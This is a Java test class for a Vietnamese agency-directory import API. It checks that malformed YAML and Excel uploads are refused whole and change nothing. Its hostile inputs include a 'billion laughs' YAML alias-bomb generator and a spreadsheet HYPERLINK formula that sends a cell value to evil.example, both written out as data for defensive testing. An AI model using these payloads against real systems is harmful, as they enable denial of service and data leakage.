package vn.pcmt.agency;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;

import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;

/**
 * Malformed and hostile directory files: each is refused whole with a 4xx problem naming where and what, in
 * Vietnamese, and the directory, its kinds, the Camunda groups and the import history stay as they were.
 */
class DirectoryImportRefusalsApiTest extends DirectoryApiTestSupport {

  @Test
  void everyMalformedOrHostileFileIsRefusedAndChangesNothing() throws IOException {
    String before = snapshot();

    assertRefusedYaml("a duplicated code", file -> agencies(file).add(entry("SYT", "Sở Y tế (bản sao)", "DEPARTMENT",
        "UBNDT", "2004-01-01")), "SYT", "Mã cơ quan 'SYT' có hai lần");
    assertRefusedYaml("an unknown parent", file -> agency(file, "SYT").put("parent", "KHONGCO"), "SYT",
        "Không có cơ quan cấp trên 'KHONGCO' trong danh bạ.");
    assertRefusedYaml("an unknown kind", file -> agency(file, "SYT").put("kind", "MINISTRY"), "SYT",
        "Loại cơ quan 'MINISTRY' chưa được khai báo trong tệp.");
    assertRefusedYaml("a cycle in the parents", file -> agency(file, "UBNDT").put("parent", "SYT"), "UBNDT",
        "Cấp trên tạo thành vòng lặp: UBNDT → SYT → UBNDT.");
    assertRefusedYaml("two issuers at once", file -> agency(file, "BCD138").put("roles", List.of("ISSUER")),
        null, "Hai cơ quan cùng giữ vai trò ISSUER (cơ quan ban hành kế hoạch, thường là UBND): 'BCD138' và 'UBNDT'");
    assertRefusedYaml("a secretariat that ends with no successor", file -> agency(file, "PTM").put("validTo",
        "2026-12-31"), "PTM", "Không cơ quan nào giữ vai trò SECRETARIAT (cơ quan thường trực) sau ngày 31/12/2026.");
    assertRefusedYaml("a deleted code", file -> agencies(file).removeIf(a -> a.get("code").equals("SYT")), "SYT",
        "Mã cơ quan không bao giờ bị xóa");
    assertRefusedYaml("a renamed code", file -> agency(file, "SYT").put("code", "SOYTE"), "SYT",
        "Mã cơ quan không được đổi: 'SYT' (Sở Y tế tỉnh Sơn La) không còn trong tệp, còn mã mới 'SOYTE' cùng tên.");
    assertRefusedYaml("an end before the start", file -> agency(file, "SYT").put("validTo", "2003-12-31"), "SYT",
        "Ngày kết thúc hoạt động (31/12/2003) trước ngày bắt đầu hoạt động (01/01/2004).");
    assertRefusedYaml("an unknown predecessor", file -> agency(file, "SYT").put("predecessors", List.of("SYTCU")),
        "SYT", "Không có cơ quan tiền thân 'SYTCU' trong danh bạ.");
    assertRefusedYaml("a code that is no group id", file -> agencies(file).add(entry("syt-2", "Sở mới", "DEPARTMENT",
        "UBNDT", "2024-01-01")), "syt-2", "Mã cơ quan 'syt-2' không hợp lệ");
    assertRefusedYaml("a code that is a head group", file -> agencies(file).add(entry("SYTLD", "Sở mới",
        "DEPARTMENT", "UBNDT", "2024-01-01")), "SYTLD", "không được kết thúc bằng 'LD'");
    assertRefusedYaml("no kinds declared", file -> file.remove("kinds"), null, "Tệp chưa khai báo loại cơ quan nào");
    assertRefusedYaml("a year no calendar reaches", file -> agency(file, "SYT").put("validTo", "9999-12-31"), "SYT",
        "nằm ngoài khoảng cho phép");

    assertRefused(upload(ADMIN, "?dryRun=false", "danh-ba.yaml", """
        province: Sơn La
        kinds:
          - code: DEPARTMENT
            label: Sở
        agencies:
          - code: SYT
            name: Sở Y tế
            kind: DEPARTMENT
            validFrom: 15/02/2024
            office: tầng 3
        """.getBytes(StandardCharsets.UTF_8)), "dòng 6", "SYT", "không phải ngày");
    assertRefused(upload(ADMIN, "?dryRun=false", "danh-ba.yaml", "agencies: [code: SYT\n  - name: {"
        .getBytes(StandardCharsets.UTF_8)), null, null, "Tệp YAML viết sai cú pháp");
    assertRefused(upload(ADMIN, "?dryRun=false", "danh-ba.yaml", billionLaughs()), "dòng 1", null,
        "Mục 'a' không có trong mẫu danh bạ. Các mục: province, kinds, agencies.");
    assertRefused(upload(ADMIN, "?dryRun=false", "danh-ba.yaml", new byte[] {(byte) 0xC3, 0x28, 0, 1, 2}), null, null,
        "không phải văn bản YAML (UTF-8)");
    assertRefused(upload(ADMIN, "?dryRun=false", "danh-ba.csv", "code,name\nSYT,Sở Y tế".getBytes(
        StandardCharsets.UTF_8)), null, null, "danh bạ là tệp YAML (.yaml, .yml) hoặc bảng tính Excel (.xlsx)");
    assertRefused(upload(ADMIN, "?dryRun=false", "danh-ba.xlsx", "%PDF-1.7\n%âãÏÓ\n1 0 obj <<>> endobj\n%%EOF"
        .getBytes(StandardCharsets.ISO_8859_1)), null, null, "Tệp không phải bảng tính Excel (.xlsx) đọc được.");
    assertRefused(upload(ADMIN, "?dryRun=maybe", "danh-ba.yaml", yaml(current())), null, null,
        "Tham số dryRun chỉ nhận true");
    assertRefused(upload(ADMIN, "?dryRun=false", "danh-ba.yaml", new byte[0]), null, null, "Chưa chọn tệp danh bạ");

    assertRefused(apply("danh-ba.xlsx", workbook(sheet -> {
      sheet.getRow(0).getCell(0).setCellValue("Ma co quan");
    })), "Cơ quan, ô A1", null, "Cột 'Ma co quan' không có trong mẫu danh bạ. Các cột: Mã, Tên cơ quan, Loại,");
    assertRefused(apply("danh-ba.xlsx", workbook(sheet -> {
      Row row = sheet.createRow(sheet.getLastRowNum() + 1);
      row.createCell(0).setCellValue("TTMOI");
      row.createCell(1).setCellFormula("HYPERLINK(\"http://evil.example/\"&A1,\"Bấm vào đây\")");
      row.createCell(2).setCellValue("DEPARTMENT");
    })), "Cơ quan, ô B", null, "Ô chứa công thức hoặc lỗi; nhập giá trị.");
    assertRefused(apply("danh-ba.xlsx", workbook(sheet -> {
      Row row = sheet.createRow(sheet.getLastRowNum() + 1);
      row.createCell(0).setCellValue("TTMOI");
      row.createCell(1).setCellValue("Trung tâm mới");
      row.createCell(2).setCellValue("DEPARTMENT");
      row.createCell(6).setCellValue("31/02/2025");
      row.createCell(4).setCellValue("CHAIRMAN");
    })), "Cơ quan, ô", null, "'31/02/2025' không phải ngày");

    // above the container's multipart limit (spring.servlet.multipart, 25 MB) the request is refused before the
    // application reads it
    assertThat(upload(ADMIN, "?dryRun=false", "danh-ba.yaml", new byte[30 * 1024 * 1024]).status())
        .as("a 30 MB file").isEqualTo(413);
    Upload aboveOwnLimit = upload(ADMIN, "?dryRun=false", "danh-ba.yaml", new byte[12 * 1024 * 1024]);
    assertThat(aboveOwnLimit.status()).isEqualTo(400);
    assertThat(aboveOwnLimit.json().get("errors").get(0).get("message").asText())
        .isEqualTo("Tệp lớn hơn 10 MB: không phải một danh bạ.");

    assertThat(upload(officer("PTM"), "?dryRun=true", "danh-ba.yaml", yaml(current())).status())
        .as("the secretariat is no administrator").isEqualTo(403);
    assertThat(upload(null, "?dryRun=true", "danh-ba.yaml", yaml(current())).status()).isEqualTo(401);
    assertThat(call(officer("PTM"), "GET", "/api/directory/export.xlsx", null).status()).isEqualTo(403);

    assertThat(snapshot()).as("nothing changed").isEqualTo(before);
  }

  /** Every problem of a file at once, each where it is: the official fixes the file in one go. */
  @Test
  void allProblemsOfAFileAreListedWithTheirLines() {
    Upload refused = dryRun("danh-ba.yaml", """
        province: Tỉnh mới
        kinds:
          - code: PEOPLES_COMMITTEE
            label: Ủy ban nhân dân
        agencies:
          - code: UBND
            name: Ủy ban nhân dân tỉnh
            kind: PEOPLES_COMMITTEE
            roles: [ISSUER, SECRETARIAT, HOME_AFFAIRS, MAYOR]
          - code: SYT
            name: Sở Y tế
            kind: DEPARTMENT
            parent: UBND
        """.getBytes(StandardCharsets.UTF_8));
    assertThat(refused.status()).isEqualTo(400);
    List<String> errors = new ArrayList<>();
    refused.json().get("errors").forEach(e -> errors.add(e.path("where").asText() + " " + e.path("code").asText()
        + ": " + e.get("message").asText()));
    assertThat(errors).anySatisfy(e -> assertThat(e).startsWith("dòng 6 UBND: Vai trò 'MAYOR' không có."))
        .anySatisfy(e -> assertThat(e).startsWith("dòng 10 SYT: Loại cơ quan 'DEPARTMENT' chưa được khai báo"))
        .anySatisfy(e -> assertThat(e).contains("UBNDT: Cơ quan 'UBNDT' (Ủy ban nhân dân tỉnh Sơn La) đang có trong"
            + " danh bạ nhưng không có trong tệp."));
  }

  private void assertRefusedYaml(String what, Consumer<Map<String, Object>> change, String code, String message) {
    Map<String, Object> file = current();
    change.accept(file);
    Upload upload = apply("danh-ba.yaml", yaml(file));
    assertThat(upload.status()).as("%s: %s", what, upload.text()).isEqualTo(400);
    assertRefused(upload, null, code, message);
  }

  private static void assertRefused(Upload upload, String where, String code, String message) {
    assertThat(upload.status()).as(upload.text()).isEqualTo(400);
    assertThat(upload.json().get("type").asText()).isEqualTo("urn:pcmt:problem:directory-refused");
    assertThat(upload.json().get("title").asText()).isEqualTo("Danh bạ không được nhập");
    assertThat(upload.json().get("detail").asText()).contains("không có gì thay đổi");
    JsonNode errors = upload.json().get("errors");
    assertThat(errors).as(upload.text()).anySatisfy(error -> {
      assertThat(error.get("message").asText()).contains(message);
      if (code != null) {
        assertThat(error.get("code").asText()).isEqualTo(code);
      }
      if (where != null) {
        assertThat(error.get("where").asText()).startsWith(where);
      }
    });
  }

  private byte[] workbook(Consumer<Sheet> change) {
    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(export()))) {
      change.accept(workbook.getSheet(DirectorySpreadsheet.AGENCIES_SHEET));
      return DirectoryImportApiTest.bytes(workbook);
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }

  /** Aliases nested until a reader that expands them builds billions of nodes. */
  private static byte[] billionLaughs() {
    StringBuilder text = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    for (char c = 'b'; c <= 'l'; c++) {
      char p = (char) (c - 1);
      text.append(c).append(": &").append(c).append(" [*").append(p).append(",*").append(p).append(",*").append(p)
          .append(",*").append(p).append(",*").append(p).append(",*").append(p).append(",*").append(p).append(",*")
          .append(p).append("]\n");
    }
    text.append("agencies: *l\n");
    return text.toString().getBytes(StandardCharsets.UTF_8);
  }
}
